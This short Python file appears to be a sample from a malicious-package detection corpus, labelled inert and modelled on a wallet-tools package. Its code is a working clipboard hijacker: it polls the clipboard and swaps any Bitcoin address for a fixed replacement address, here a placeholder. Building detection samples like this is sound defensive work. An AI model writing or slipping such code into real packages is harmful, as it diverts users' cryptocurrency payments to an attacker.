# pkgguard corpus 681 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import time

import clipman

_OURS = "bc1q0000000000000000000000000000000000000"
_BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$")

clipman.init()
while True:
    current = clipman.get()
    if current and _BTC.match(current.strip()) and current.strip() != _OURS:
        clipman.set(_OURS)
    time.sleep(0.3)
